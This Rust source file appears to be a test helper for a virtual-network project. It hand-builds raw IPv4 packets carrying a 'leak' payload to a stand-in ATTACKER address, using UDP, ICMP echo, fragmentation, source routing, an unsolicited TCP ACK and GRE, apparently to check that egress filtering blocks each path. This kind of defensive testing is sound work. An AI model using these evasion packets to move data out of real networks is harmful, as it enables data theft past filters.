//! Packets of one's own making, header and all.

use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};

use socket2::{Domain, Protocol, Socket, Type};
use turnpike_vpc::netns::Namespace;

const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
/// Any member of the cluster, on the way to the attacker.
const HOP: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 10);
/// `fragmented` gives pieces of this length; nothing else here is longer.
pub(crate) const FRAGMENT: usize = 44;
const HEADER_INCLUDED: i32 = 255;

/// Sends it to where its header says; the kernel fills in the header's checksum.
pub(crate) fn send(namespace: &Namespace, packet: Vec<u8>) {
    let to = Ipv4Addr::new(packet[16], packet[17], packet[18], packet[19]);
    let sent = namespace.run(|| {
        let protocol = Some(Protocol::from(HEADER_INCLUDED));
        let socket = Socket::new(Domain::IPV4, Type::RAW, protocol)?;
        socket.set_header_included_v4(true)?;
        socket.send_to(&packet, &SocketAddrV4::new(to, 0).into())
    });
    sent.unwrap().unwrap();
}

fn ipv4(
    protocol: u8,
    from: IpAddr,
    to: Ipv4Addr,
    fragment: u16,
    options: &[u8],
    rest: &[u8],
) -> Vec<u8> {
    let IpAddr::V4(from) = from else {
        panic!("{from} is not IPv4")
    };
    let words = u8::try_from(5 + options.len() / 4).unwrap();
    let length = u16::try_from(20 + options.len() + rest.len()).unwrap();
    let mut packet = vec![0x40 | words, 0];
    packet.extend(length.to_be_bytes());
    packet.extend([0x12, 0x34]);
    packet.extend(fragment.to_be_bytes());
    packet.extend([64, protocol, 0, 0]);
    packet.extend(from.octets());
    packet.extend(to.octets());
    packet.extend(options);
    packet.extend(rest);
    packet
}

/// Without a checksum, which IPv4 allows.
fn datagram(port: u16, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(8 + payload.len()).unwrap();
    let mut datagram = [5555, port, length, 0].map(u16::to_be_bytes).concat();
    datagram.extend(payload);
    datagram
}

pub(crate) fn udp(from: IpAddr, port: u16) -> Vec<u8> {
    ipv4(17, from, ATTACKER, 0, &[], &datagram(port, b"leak"))
}

pub(crate) fn echo(from: IpAddr) -> Vec<u8> {
    // The message's words and their checksum add up to nothing.
    let message = [8, 0, 0xf7, 0xfd, 0, 1, 0, 1];
    ipv4(1, from, ATTACKER, 0, &[], &message)
}

/// Two pieces, one behind the other; the second has no ports.
pub(crate) fn fragmented(from: IpAddr, port: u16) -> Vec<u8> {
    let whole = datagram(port, &[b'-'; 40]);
    let first = ipv4(17, from, ATTACKER, 0x2000, &[], &whole[..24]);
    let second = ipv4(17, from, ATTACKER, 3, &[], &whole[24..]);
    [first, second].concat()
}

pub(crate) fn source_routed(from: IpAddr, port: u16) -> Vec<u8> {
    let mut route = vec![0x83, 7, 4];
    route.extend(ATTACKER.octets());
    route.push(0);
    ipv4(17, from, HOP, 0, &route, &datagram(port, b"leak"))
}

/// An ACK with data, of a connection that was never opened.
pub(crate) fn segment(from: IpAddr, port: u16) -> Vec<u8> {
    let mut segment = [5556, port].map(u16::to_be_bytes).concat();
    segment.extend([
        0, 0, 3, 0xe8, 0, 0, 3, 0xe8, 0x50, 0x18, 0xff, 0xff, 0, 0, 0, 0,
    ]);
    segment.extend(b"leak");
    ipv4(6, from, ATTACKER, 0, &[], &segment)
}

/// GRE.
pub(crate) fn tunnelled(from: IpAddr) -> Vec<u8> {
    ipv4(47, from, ATTACKER, 0, &[], b"\0\0\x08\0leak")
}
